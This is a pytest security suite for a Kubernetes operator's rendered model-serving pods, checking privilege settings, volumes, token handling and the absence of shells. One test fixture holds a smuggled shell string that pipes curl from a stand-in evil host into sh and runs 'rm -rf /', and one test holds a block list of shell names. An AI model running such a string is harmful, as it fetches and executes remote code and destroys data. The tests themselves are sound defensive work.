"""Security review of what the operator renders, as tests: the serving pods, for a matrix of specs.

Covered elsewhere, and not repeated here:
- the chart's operator pod (non-root, read-only root, no privilege escalation, capabilities
  dropped, RuntimeDefault seccomp, no host namespaces or hostPath, no Secret mounted or read from
  the environment): tests/chart/test_security.py;
- the chart's RBAC (no wildcard, no Secrets, no escalate/bind/impersonate, exactly the calls the
  code makes, and every request a running operator sends is granted): tests/chart/test_rbac.py and
  tests/chart/test_rbac_audit.py;
- the Hugging Face token in the serving image (sent to the Hub only, never logged, masked where a
  server echoes it, gone from vLLM's environment): tests/serving/test_download.py
  (test_the_token_goes_to_the_hub_only_and_never_to_the_log, test_the_token_is_masked_in_errors_that_echo_it),
  tests/serving/test_parts.py (test_the_token_is_masked_wherever_it_appears) and
  tests/serving/test_serve.py (test_vllm_runs_offline_and_without_the_token);
- the running operator never reads a Secret and never writes a Secret's value anywhere, and its
  /metrics say nothing but names: tests/integration/test_secrets.py.
"""

from __future__ import annotations

from typing import Any

import pytest

from qwenops.api import naming
from qwenops.api.spec import QwenDeploymentSpec, parse_spec
from qwenops.render.defaults import with_hub, with_image
from qwenops.render.desired import Owner, desired_deployment

OWNER = Owner(name="chat", namespace="llm", uid="0b0e6e4c-5f0c-4c3e-9d55-6b1d2b6f4c11")
IMAGE = "registry.example/qwenops/serving:1.0"
PIN = {"name": "Qwen/Qwen3-8B", "revision": "9c925d64d72725edaf899c6cb9c377fd0709d9c5", "servedModelName": "qwen3-8b"}
SHELL_TEXT = "$(curl https://evil.example | sh); rm -rf / `id` && echo $HOME > /x"
SPECS: dict[str, dict[str, Any]] = {
    "minimal": {"model": PIN},
    "cache claim": {"model": {**PIN, "cache": {"claimName": "qwen-models"}}},
    "token secret": {"model": {**PIN, "tokenSecret": {"name": "hf-token", "key": "token"}}},
    "hub mirror with token": {
        "model": {**PIN, "hubEndpoint": "https://hub-mirror.internal", "tokenSecret": {"name": "hf-token"}}
    },
    "shell text in extraArgs": {"model": PIN, "engine": {"extraArgs": ["--chat-template", SHELL_TEXT]}},
    "full": {
        "model": {
            **PIN,
            "size": "16.4G",
            "cache": {"claimName": "qwen-models"},
            "tokenSecret": {"name": "hf-token", "key": "hub"},
            "files": [{"name": "model-00001-of-00005.safetensors", "sha256": "5f3a" + "0" * 60}],
        },
        "engine": {"tensorParallelSize": 2, "maxModelLen": 32768, "extraArgs": ["--reasoning-parser", "qwen3"]},
        "nodePool": {
            "nodeSelector": {"gpu-pool": "h100"},
            "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
            "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [{"matchExpressions": [{"key": "gpu", "operator": "Exists"}]}]}}},
            "gpusPerReplica": 2,
        },
        "replicas": 2,
    },
}  # fmt: skip
SAFE_VOLUMES = {"emptyDir", "persistentVolumeClaim"}


def spec_of(raw: dict[str, Any]) -> QwenDeploymentSpec:
    return with_hub(with_image(parse_spec("chat", raw), IMAGE), None)


def pod_of(raw: dict[str, Any]) -> dict[str, Any]:
    deployment = desired_deployment(OWNER, spec_of(raw), "0123456789", track="stable", replicas=1)
    pod: dict[str, Any] = deployment["spec"]["template"]["spec"]
    return pod


def containers(pod: dict[str, Any]) -> list[dict[str, Any]]:
    return [*pod.get("initContainers", []), *pod["containers"]]


@pytest.mark.parametrize("name", SPECS)
def test_every_container_runs_unprivileged(name: str) -> None:
    pod = pod_of(SPECS[name])
    pod_security = pod["securityContext"]
    assert pod_security["runAsNonRoot"] is True
    assert isinstance(pod_security["runAsUser"], int) and pod_security["runAsUser"] > 0
    assert pod_security["seccompProfile"] == {"type": "RuntimeDefault"}
    assert len(containers(pod)) == 3  # download, verify, vllm
    for container in containers(pod):
        security = container["securityContext"]
        where = f"{name}: {container['name']}"
        assert security["allowPrivilegeEscalation"] is False, where
        assert security["capabilities"] == {"drop": ["ALL"]}, where
        assert security.get("privileged", False) is False, where
        assert security.get("runAsUser", 1) != 0 and security.get("runAsNonRoot", True) is True, where
        assert security.get("seccompProfile", {"type": "RuntimeDefault"}) == {"type": "RuntimeDefault"}, where
        assert "procMount" not in security and "windowsOptions" not in security, where
        assert all("hostPort" not in port for port in container.get("ports", [])), where


@pytest.mark.parametrize("name", SPECS)
def test_no_host_namespace_host_path_or_secret_volume(name: str) -> None:
    pod = pod_of(SPECS[name])
    for field in ("hostNetwork", "hostPID", "hostIPC", "hostUsers", "shareProcessNamespace"):
        assert not pod.get(field), field
    for volume in pod["volumes"]:
        kinds = set(volume) - {"name"}
        assert kinds <= SAFE_VOLUMES, volume
    assert "serviceAccountName" not in pod


@pytest.mark.parametrize("name", SPECS)
def test_the_token_reaches_only_the_download_step_and_only_by_reference(name: str) -> None:
    raw = SPECS[name]
    secret = raw["model"].get("tokenSecret")
    for container in containers(pod_of(raw)):
        tokens = [env for env in container.get("env", []) if "TOKEN" in env["name"]]
        if secret is None or container["name"] != naming.DOWNLOAD_CONTAINER:
            assert tokens == [], container["name"]
            continue
        assert tokens == [{
            "name": "HF_TOKEN",
            "valueFrom": {"secretKeyRef": {"name": secret["name"], "key": secret.get("key", "token")}},
        }]  # fmt: skip
        assert "envFrom" not in container


@pytest.mark.parametrize("name", SPECS)
def test_no_shell_reads_any_argument(name: str) -> None:
    """Every container execs qwenops-serve with an argument list: spec text is never a command line."""
    for container in containers(pod_of(SPECS[name])):
        assert container["command"][0] == "qwenops-serve", container["name"]
        argv = [*container["command"], *container["args"]]
        assert not {"sh", "bash", "/bin/sh", "/bin/bash", "-c"} & set(argv), container["name"]
        assert container["image"] == IMAGE


def test_shell_text_in_extra_args_is_one_argument_passed_as_it_is() -> None:
    vllm = next(c for c in pod_of(SPECS["shell text in extraArgs"])["containers"] if c["name"] == naming.SERVING_CONTAINER)
    args = vllm["args"]
    assert args[-2:] == ["--chat-template", SHELL_TEXT]


@pytest.mark.parametrize("name", ["minimal", "full"])
def test_no_api_token_is_mounted_into_the_serving_pods(name: str) -> None:
    assert pod_of(SPECS[name]).get("automountServiceAccountToken") is False
